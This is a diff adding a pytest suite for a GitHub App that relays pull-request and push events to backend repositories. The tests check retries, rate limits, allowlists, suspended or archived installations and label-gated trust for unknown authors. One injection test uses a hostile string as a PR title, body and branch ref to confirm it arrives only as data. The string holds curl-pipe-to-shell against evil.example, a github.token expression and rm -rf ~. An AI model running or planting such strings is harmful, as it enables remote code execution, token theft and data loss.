@@ -1,0 +1,564 @@
+"""Who is told what, when and how often? Dispatches, told through the front door."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from pathlib import Path
+
+import pytest
+
+from bot.app import make_worker
+from bot.clock import SystemClock
+from bot.domain.words import OK_TO_TEST
+from tests import harness
+from tests.harness import L1, L2, L3, L4, UPSTREAM
+
+MOST_CHARACTERS = 65_535
+DISPATCHES = r"/dispatches$"
+READS_INPUTS = "name: Upstream\non: {workflow_dispatch: {inputs: {client_payload: {required: true}}}}\n"
+
+
+def told(github, repo=None):
+    """Who was dispatched to, in order."""
+    names = [dispatch.repo.full_name for dispatch in github.dispatches]
+    return names if repo is None else [name for name in names if name == repo]
+
+
+async def states(bot, repo):
+    """The states of a backend's dispatches, oldest first."""
+    rows = [row for row in await bot.rows("oot_dispatch") if row["backend"] == repo]
+    return [row["state"] for row in sorted(rows, key=lambda row: row["created_at"])]
+
+
+async def reasons(bot, repo):
+    return [row["error"] for row in await bot.rows("oot_dispatch") if row["backend"] == repo]
+
+
+async def list_backends(bot, text):
+    """Put another allowlist in force."""
+    Path(bot.context.settings.allowlist).write_text(text)
+    bot.clock.advance(61)
+    await bot.settle()
+
+
+def posts(github, repo):
+    """How GitHub answered each attempt to dispatch to a repository."""
+    return [
+        call.status for call in github.calls
+        if call.method == "POST" and call.path.startswith(f"/repos/{repo}/") and call.path.endswith("/dispatches")
+    ]  # fmt: skip
+
+
+# What others get wrong with the same job
+
+
+async def test_u5_a_report_that_comes_before_github_has_answered_is_expected(bot, github):
+    answers = []
+
+    async def report_at_once(dispatch):
+        if dispatch.repo.full_name == L2:
+            answers.append(await bot.report(dispatch, status="in_progress"))
+
+    github.on_dispatch = report_at_once
+    github.faults.add(method="POST", path=rf"{L2}/dispatches$", when="after", status=502, times=1)
+    await github.open_pull(UPSTREAM)
+    await bot.settle(horizon=60)
+    assert [status for status, _ in answers] == [200]
+    assert await states(bot, L2) == ["sent"]
+    assert len(told(github, L2)) == 1
+
+
+async def test_u6_one_backend_that_fails_holds_no_other_up_and_a_redelivery_repeats_nothing(bot, github):
+    github.faults.add(method="POST", path=rf"{L2}/dispatches$", status=502, times=3)
+    await github.open_pull(UPSTREAM)
+    await bot.settle()
+    assert sorted(told(github)) == sorted([L1, L3, L4])
+    (opened,) = [delivery for delivery in github.deliveries if delivery.event == "pull_request"]
+    await github.redeliver(opened)
+    await bot.settle(horizon=120)
+    assert sorted(told(github)) == sorted([L1, L2, L3, L4])
+
+
+@pytest.mark.parametrize("letter", ["x", "\U0001f680", '"'], ids=["ascii", "emoji", "quotes"])
+async def test_u7_the_longest_description_reaches_every_backend(bot, github, letter):
+    pull = await github.open_pull(UPSTREAM, body=letter * 65_536)
+    await bot.settle()
+    assert sorted(told(github)) == sorted([L1, L2, L3, L4])
+    for dispatch in github.dispatches:
+        assert len(dispatch.client_payload) <= 10
+        assert len(json.dumps(dispatch.client_payload)) <= MOST_CHARACTERS
+        inner = dispatch.client_payload["payload"]
+        assert "pull_request.body" in inner["truncated"]
+        assert inner["pull_request"]["head"]["sha"] == pull.head_sha
+
+
+async def test_u8_shell_and_expression_syntax_of_an_author_arrives_as_data(bot, github):
+    hostile = '$(curl evil.example|sh)`id`"; ${{ github.token }} \' && rm -rf ~'
+    await github.open_pull(UPSTREAM, title=hostile, body=hostile)
+    body = json.loads(json.dumps(github.deliveries[0].payload))
+    body["pull_request"]["head"]["ref"] = hostile
+    await bot.send("pull_request", body)
+    await bot.settle()
+    pull = bot.dispatch(L4).client_payload["payload"]["pull_request"]
+    assert (pull["title"], pull["body"], pull["head"]["ref"]) == (hostile, hostile, hostile)
+    assert bot.dispatch(L4).event_type == "pull_request"
+
+
+async def test_u18_the_webhook_is_answered_before_github_is_asked_anything(bot, github):
+    pull = await github.open_pull(UPSTREAM)
+    await bot.settle()
+    before = len(github.calls)
+    await github.push_commit(pull)
+    (answer,) = [one.status_code for one in github.deliveries if one.action == "synchronize"]
+    assert answer == 202
+    assert len(github.calls) == before
+
+
+# Retries and limits
+
+
+@pytest.mark.parametrize(
+    ("status", "headers"),
+    [(429, {"Retry-After": "90"}), (403, {"Retry-After": "90"}), (403, {"X-RateLimit-Remaining": "0"})],
+)
+async def test_a_limit_of_github_leaves_the_dispatch_pending_until_it_is_over(bot, github, status, headers):
+    github.faults.add(
+        method="POST", path=rf"{L4}/dispatches$", status=status, headers=headers, body={"message": "slow down"}
+    )
+    await github.open_pull(UPSTREAM)
+    await bot.settle(horizon=30)
+    assert await states(bot, L4) == ["pending"]
+    assert told(github, L4) == []
+    await bot.settle(horizon=120)
+    assert await states(bot, L4) == ["sent"]
+    assert len(told(github, L4)) == 1
+
+
+async def test_after_a_limit_somebody_elses_run_is_not_taken_for_ours(bot, github):
+    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=429, headers={"Retry-After": "30"})
+    await github.open_pull(UPSTREAM)
+    await bot.settle()
+    await github.start_run(L4, event="repository_dispatch", name="CI")
+    await bot.settle(horizon=60)
+    assert len(told(github, L4)) == 1
+
+
+async def test_a_github_that_never_takes_it_is_not_asked_for_ever(bot, github):
+    github.faults.add(method="POST", path=rf"{L1}/dispatches$", status=502, times=100_000)
+    await github.open_pull(UPSTREAM)
+    await bot.wait(25 * 3600)
+    assert await states(bot, L1) == ["failed"]
+    before = len(posts(github, L1))
+    await bot.wait(3600)
+    assert len(posts(github, L1)) == before
+
+
+async def test_a_newer_commit_drops_what_was_not_sent_of_the_one_before(bot, github):
+    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=503, times=1)
+    pull = await github.open_pull(UPSTREAM)
+    await bot.settle()
+    head = await github.push_commit(pull)
+    await bot.settle(horizon=60)
+    heads = [
+        one.client_payload["payload"]["pull_request"]["head"]["sha"]
+        for one in github.dispatches if one.repo.full_name == L4
+    ]  # fmt: skip
+    assert heads == [head]
+
+
+async def test_a_draft_is_relayed_like_any_other_pull_request(bot, github):
+    pull = await github.open_pull(UPSTREAM, draft=True)
+    await bot.settle()
+    assert len(told(github)) == 4
+    await github.ready_for_review(pull)
+    await bot.settle()
+    assert len(told(github)) == 8
+
+
+async def test_a_backend_taken_off_the_allowlist_is_not_told_any_more(bot, github):
+    github.faults.add(method="POST", path=rf"{L4}/dispatches$", status=503, headers={"Retry-After": "60"}, times=1)
+    await github.open_pull(UPSTREAM)
+    await bot.settle()
+    await list_backends(bot, f"L2: [{L2}]")
+    await bot.settle(horizon=600)
+    assert told(github, L4) == []
+    assert await states(bot, L4) == ["failed"]
+    assert "allowlist" in (await reasons(bot, L4))[0]
+
+
+# Where the App is not, or not what it seems
+
+
+async def test_a_suspended_app_is_said_to_be_suspended(bot, github):
+    github.suspend(L4, github.app)
+    pull = await github.open_pull("pytorch/pytorch")
+    await bot.settle()
+    status, conclusion, title = bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"]
+    assert (status, conclusion) == ("completed", "failure")
+    assert "suspended" in title
+    await bot.wait(3600)
+    assert await states(bot, L4) == ["not_installed"]
+    assert told(github, L4) == []
+
+
+async def test_an_app_suspended_while_its_token_is_held_is_said_to_be_suspended(bot, github):
+    pull = await github.open_pull(UPSTREAM)
+    await bot.settle()
+    github.suspend(L4, github.app)
+    await github.push_commit(pull)
+    await bot.settle()
+    assert (await states(bot, L4))[-1] == "not_installed"
+    assert "suspended" in (await reasons(bot, L4))[-1]
+
+
+async def test_an_archived_backend_is_said_to_be_archived_and_not_asked_again(bot, github):
+    github.archive(L4)
+    pull = await github.open_pull(UPSTREAM)
+    await bot.settle()
+    assert bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][1] == "failure"
+    assert "archived" in bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][2]
+    await bot.wait(3600)
+    assert posts(github, L4) == [403]
+
+
+@pytest.mark.parametrize("how", ["created", "added", "unsuspend"])
+async def test_once_the_app_is_there_open_heads_are_dispatched_afresh(bot, github, how):
+    if how == "unsuspend":
+        github.suspend(L4, github.app)
+    else:
+        github.uninstall(L4, github.app)
+    closed, pull = await github.open_pull(UPSTREAM), await github.open_pull(UPSTREAM)
+    await bot.settle()
+    await github.close(closed)
+    await bot.settle()
+    assert told(github, L4) == []
+    if how == "unsuspend":
+        github.suspend(L4, github.app, suspended=False)
+    installation = github.install(L4, github.app)
+    await github.announce_installation(installation, how, github.world.repo(L4))
+    await github.announce_installation(installation, how, github.world.repo(L4))
+    await bot.settle(horizon=30)
+    (sent,) = [one for one in github.dispatches if one.repo.full_name == L4]
+    assert sent.client_payload["payload"]["pull_request"]["head"]["sha"] == pull.head_sha
+    assert bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][:2] == ("queued", None)
+    assert (await bot.report(sent, status="in_progress"))[0] == 200
+
+
+async def test_an_app_installed_anew_is_found_though_its_old_installation_is_remembered(bot, github):
+    await github.open_pull(UPSTREAM)
+    await bot.settle()
+    for name in (L2, L3, L4):
+        github.uninstall(name, github.app)
+    for name in (L2, L3, L4):
+        github.install(name, github.app)
+    await github.open_pull(UPSTREAM)
+    await bot.settle()
+    assert len(told(github, L4)) == 2
+
+
+async def test_a_pinned_backend_is_told_only_while_its_name_stands_for_it(bot, github):
+    right = github.world.repo(L2).id
+    await list_backends(bot, f"L2:\n- {{repo: {L2}, repository_id: {right}}}\n- {{repo: {L1}, repository_id: 5}}\n")
+    await github.open_pull(UPSTREAM)
+    await bot.settle()
+    assert told(github) == [L2]
+    assert await states(bot, L1) == ["failed"]
+    assert "repository_id 5" in (await reasons(bot, L1))[0]
+
+
+# policy: trusted
+
+TRUSTED = f"L2: [{L2}]\nL4:\n  tpu: {{{L4}: {{oncalls: dave, policy: trusted}}}}\n"
+
+
+@pytest.fixture
+async def stranger(bot, github):
+    """A pull request of somebody nobody knows, with a blocking backend that trusts only some."""
+    await list_backends(bot, TRUSTED)
+    pull = await github.open_pull(UPSTREAM, author="mallory", author_association="NONE")
+    await bot.settle()
+    return pull
+
+
+@pytest.mark.parametrize("association", ["OWNER", "MEMBER", "COLLABORATOR", "CONTRIBUTOR"])
+async def test_known_authors_are_dispatched_at_once(bot, github, association):
+    await list_backends(bot, TRUSTED)
+    await github.open_pull(UPSTREAM, author_association=association)
+    await bot.settle()
+    assert sorted(told(github)) == sorted([L2, L4])
+
+
+@pytest.mark.parametrize("association", ["NONE", "FIRST_TIMER", "FIRST_TIME_CONTRIBUTOR", "MANNEQUIN", None])
+async def test_a_strangers_pull_request_is_held_and_says_so(bot, github, association):
+    await list_backends(bot, TRUSTED)
+    pull = await github.open_pull(UPSTREAM, author="mallory", author_association=association)
+    await bot.wait(25 * 3600)
+    assert told(github) == [L2]
+    checks = bot.checks(UPSTREAM, pull.head_sha)
+    assert checks["oot / tpu"] == ("queued", None, "needs oot/ok-to-test")
+    assert checks["oot / gate"] == ("in_progress", None, "needs oot/ok-to-test")
+    status, page = await bot.get(f"/{UPSTREAM}/pull/{pull.number}")
+    assert status == 200
+    assert "oot/ok-to-test" in page
+
+
+@pytest.mark.parametrize("role", ["write", "admin"])
+async def test_the_label_of_a_writer_lets_the_held_head_go(bot, github, stranger, role):
+    github.set_permission(UPSTREAM, "carol", role)
+    await github.label(stranger, OK_TO_TEST, "carol")
+    await bot.settle(horizon=30)
+    assert told(github, L4) == [L4]
+    assert bot.checks(UPSTREAM, stranger.head_sha)["oot / tpu"][:2] == ("queued", None)
+    assert bot.checks(UPSTREAM, stranger.head_sha)["oot / gate"][2] == "waiting for tpu"
+    assert bot.dispatch(L4).client_payload["payload"]["action"] == "opened"
+
+
+@pytest.mark.parametrize("role", ["read", "none"])
+async def test_the_label_of_somebody_who_may_not_write_changes_nothing(bot, github, stranger, role):
+    github.set_permission(UPSTREAM, "eve", role)
+    await github.label(stranger, OK_TO_TEST, "eve")
+    await bot.wait(60)
+    assert told(github, L4) == []
+    assert bot.checks(UPSTREAM, stranger.head_sha)["oot / gate"][2] == "needs oot/ok-to-test"
+
+
+async def test_another_label_lets_nothing_go(bot, github, stranger):
+    await github.label(stranger, "oot/ok-to-tes")
+    await github.label(stranger, "OOT/ok-to-test ")
+    await bot.settle()
+    assert told(github, L4) == []
+
+
+async def test_a_later_commit_needs_the_label_again(bot, github, stranger):
+    await github.label(stranger, OK_TO_TEST)
+    await bot.settle()
+    head = await github.push_commit(stranger)
+    await bot.settle()
+    assert len(told(github, L4)) == 1
+    assert bot.checks(UPSTREAM, head)["oot / gate"][2] == "needs oot/ok-to-test"
+    await github.unlabel(stranger, OK_TO_TEST)
+    await github.label(stranger, OK_TO_TEST)
+    await bot.settle()
+    assert bot.dispatch(L4).client_payload["payload"]["pull_request"]["head"]["sha"] == head
+    assert len(told(github, L4)) == 2
+
+
+async def test_a_label_for_an_older_commit_lets_the_newer_one_not_go(bot, github, stranger):
+    await github.label(stranger, OK_TO_TEST)
+    head = await github.push_commit(stranger)
+    await bot.settle(horizon=30)
+    sent = {one.client_payload["payload"]["pull_request"]["head"]["sha"] for one in github.dispatches}
+    assert (L4, head) not in {
+        (one.repo.full_name, one.client_payload["payload"]["pull_request"]["head"]["sha"])
+        for one in github.dispatches
+    }
+    assert head in sent
+
+
+async def test_the_label_may_be_heard_of_before_the_pull_request(bot, github):
+    await list_backends(bot, TRUSTED)
+    hook, bot.app.webhook_url = bot.app.webhook_url, "http://127.0.0.1:9/nobody"
+    pull = await github.open_pull(UPSTREAM, author="mallory", author_association="NONE")
+    await github.label(pull, OK_TO_TEST)
+    bot.app.webhook_url = hook
+    opened, labeled = [one for one in github.deliveries if one.event == "pull_request"]
+    for delivery in (labeled, opened):
+        await github.redeliver(delivery)
+        await bot.settle()
+    assert told(github, L4) == [L4]
+
+
+async def test_the_same_label_twice_sends_once(bot, github, stranger):
+    await github.label(stranger, OK_TO_TEST)
+    await bot.settle()
+    (labeled,) = [one for one in github.deliveries if one.action == "labeled"]
+    await github.redeliver(labeled)
+    await bot.settle()
+    await github.unlabel(stranger, OK_TO_TEST)
+    await github.label(stranger, OK_TO_TEST)
+    await bot.settle()
+    assert len(told(github, L4)) == 1
+
+
+async def test_a_backend_that_held_everything_back_does_not_hear_of_the_end_either(bot, github, stranger):
+    await github.close(stranger)
+    await bot.settle()
+    assert told(github, L4) == []
+    assert await states(bot, L4) == ["superseded"]
+    assert len(told(github, L2)) == 2
+
+
+async def test_the_re_run_button_does_not_let_a_held_head_go(bot, github, stranger):
+    (check,) = [run for run in github.check_runs(UPSTREAM, stranger.head_sha) if run.name == "oot / tpu"]
+    await github.rerequest(check.id)
+    await bot.settle()
+    assert told(github, L4) == []
+
+
+# dispatch: workflow
+
+BY_WORKFLOW = f"L4:\n  tpu: {{{L4}: {{oncalls: dave, dispatch: workflow, workflow_file: upstream.yml}}}}\n"
+
+
+@pytest.fixture
+async def by_workflow(bot, github):
+    github.set_file(L4, ".github/workflows/upstream.yml", READS_INPUTS)
+    await list_backends(bot, BY_WORKFLOW)
+
+
+@pytest.mark.usefixtures("by_workflow")
+async def test_a_workflow_is_started_with_the_payload_as_its_input(bot, github):
+    pull = await github.open_pull(UPSTREAM, title="Add \U0001f680", body="\U0001f680" * 65_536)
+    await bot.settle()
+    (sent,) = github.dispatches
+    assert (sent.event_type, sent.ref, sent.workflow) == ("workflow_dispatch", "main", ".github/workflows/upstream.yml")
+    assert sorted(sent.client_payload) == ["client_payload"]
+    assert len(json.dumps(sent.client_payload)) <= MOST_CHARACTERS
+    client = json.loads(sent.client_payload["client_payload"])
+    assert client["event_type"] == "pull_request"
+    assert client["payload"]["pull_request"]["head"]["sha"] == pull.head_sha
+    (row,) = await bot.rows("oot_dispatch")
+    assert (row["state"], row["run_id"]) == ("sent", str(sent.run.id))
+    assert "contents" not in {name for token in github.world.tokens.values() for name in token.permissions
+                              if token.repository_ids == {sent.repo.id}}  # fmt: skip
+
+
+@pytest.mark.usefixtures("by_workflow")
+async def test_a_workflow_whose_answer_was_lost_is_found_again_by_listing(bot, github):
+    github.faults.add(method="POST", path=DISPATCHES, when="after", status=502, times=1)
+    await github.open_pull(UPSTREAM)
+    await bot.settle(horizon=60)
+    (sent,) = github.dispatches
+    (row,) = await bot.rows("oot_dispatch")
+    assert (row["state"], row["run_id"]) == ("sent", str(sent.run.id))
+
+
+@pytest.mark.usefixtures("by_workflow")
+async def test_a_run_that_a_person_started_is_not_taken_for_the_lost_one(bot, github):
+    github.faults.add(method="POST", path=DISPATCHES, when="before", status=502, times=1)
+    await github.open_pull(UPSTREAM)
+    await bot.settle()
+    github.world.workflow(github.world.repo(L4), "upstream", ".github/workflows/upstream.yml")
+    await github.start_run(L4, event="workflow_dispatch", name="upstream", actor="carol")
+    await bot.settle(horizon=60)
+    (sent,) = github.dispatches
+    (row,) = await bot.rows("oot_dispatch")
+    assert row["run_id"] == str(sent.run.id)
+
+
+async def test_a_workflow_that_is_not_there_is_named(bot, github):
+    await list_backends(bot, BY_WORKFLOW)
+    pull = await github.open_pull(UPSTREAM)
+    await bot.settle()
+    assert bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][1] == "failure"
+    assert "upstream.yml" in bot.checks(UPSTREAM, pull.head_sha)["oot / tpu"][2]
+
+
+# push
+
+PUSHES = f"""
+L1: [{{repo: {L1}, events: [push]}}]
+L2:
+- {{repo: {L2}, events: [pull_request, push], refs: [main, "release/*"]}}
+- {{repo: {L3}, events: [push], refs: ["refs/tags/v*"]}}
+L4: [{L4}]
+"""
+
+
+@pytest.mark.parametrize(
+    ("ref", "backends"),
+    [("main", [L1, L2]), ("release/2", [L1, L2]), ("topic", [L1]), ("refs/tags/v1", [L3]), ("refs/tags/x", [])],
+)
+async def test_a_push_goes_to_the_backends_whose_refs_it_matches(bot, github, ref, backends):
+    await list_backends(bot, PUSHES)
+    sha = await github.push(UPSTREAM, ref)
+    await bot.settle()
+    assert sorted(told(github)) == sorted(backends)
+    for dispatch in github.dispatches:
+        assert dispatch.event_type == dispatch.client_payload["event_type"] == "push"
+        assert dispatch.client_payload["payload"]["after"] == sha
+    for row in await bot.rows("oot_dispatch"):
+        assert (row["event_type"], row["pr_number"], row["head_sha"]) == ("push", None, sha)
+    assert bot.checks(UPSTREAM, sha) == {}
+
+
+async def test_the_deletion_of_a_branch_is_never_relayed(bot, github):
+    await list_backends(bot, PUSHES)
+    await github.push(UPSTREAM, "topic")
+    await bot.settle()
+    (pushed,) = [one for one in github.deliveries if one.event == "push"]
+    gone = pushed.payload | {
+        "deleted": True, "created": False, "before": pushed.payload["after"], "after": "0" * 40,
+        "commits": [], "head_commit": None,
+    }  # fmt: skip
+    await github.deliver("push", gone)
+    await github.deliver("push", gone | {"deleted": False})
+    await bot.settle()
+    assert told(github) == [L1]
+
+
+async def test_a_push_elsewhere_is_not_relayed(bot, github):
+    await list_backends(bot, PUSHES)
+    await github.push(L2, "main")
+    await bot.settle()
+    assert told(github) == []
+
+
+async def test_a_result_of_a_push_is_taken_and_a_silent_one_is_said_to_have_never_started(bot, github):
+    await list_backends(bot, f"L2: [{{repo: {L2}, events: push}}, {{repo: {L3}, events: push}}]")
+    await github.push(UPSTREAM)
+    await bot.settle()
+    assert (await bot.report(bot.dispatch(L2)))[0] == 200
+    await bot.wait(24 * 3600 + 120)
+    assert (await states(bot, L2), await states(bot, L3)) == (["sent"], ["never_started"])
+
+
+# Speed
+
+
+async def test_twenty_dispatches_leave_within_three_seconds_though_one_backend_hangs(
+    app_key, tmp_path, issuer
+):
+    """In real time: GitHub takes 100 ms for each answer, and eight seconds for one backend's."""
+    names = [f"org-{number}/backend" for number in range(20)]
+    (tmp_path / "allowlist.yml").write_text("L2: [slow/backend, {}]".format(", ".join(names)))
+    clock = SystemClock()
+    github = harness.SimulatedGitHub(clock=clock)
+    await github.start()
+    app = github.register_app(webhook_url=None, webhook_secret=harness.SECRET, private_key_pem=app_key)
+    for name in (UPSTREAM, "slow/backend", *names):
+        github.add_repo(name)
+    settings = harness.make_settings(github=github, issuer=issuer, app=app, folder=tmp_path)
+    async with harness.running(settings, github=github, issuer=issuer, app=app, clock=clock) as bot:
+        everybody = asyncio.Event()
+
+        async def arrived(_dispatch):
+            if len(set(told(github)) & set(names)) == len(names):
+                everybody.set()
+
+        github.on_dispatch = arrived
+        github.faults.add(path="^/repos/slow/backend/", status=None, delay=8.0, times=9)
+        github.faults.add(path="", method="GET|POST", status=None, delay=0.1, times=10_000)
+        worker = make_worker(bot.context)
+        working = asyncio.create_task(worker.run())
+        began = clock.now()
+        await bot.send("pull_request", opened(github))
+        await asyncio.wait_for(everybody.wait(), 20)
+        assert clock.now() - began < 3_000
+        worker.stop()
+        await working
+    await github.stop()
+
+
+def opened(github):
+    """The body of a pull request's opening, without GitHub's own delivery of it."""
+    repo = github.world.repo(UPSTREAM)
+    return {
+        "action": "opened", "number": 1, "repository": {"id": repo.id, "full_name": UPSTREAM, "private": False},
+        "pull_request": {
+            "id": 1, "number": 1, "title": "t", "state": "open", "author_association": "MEMBER", "labels": [],
+            "head": {"sha": "a" * 40, "ref": "x"}, "base": {"sha": repo.branches["main"], "ref": "main"},
+            "updated_at": "2026-11-01T00:00:00Z",
+        },
+    }  # fmt: skip
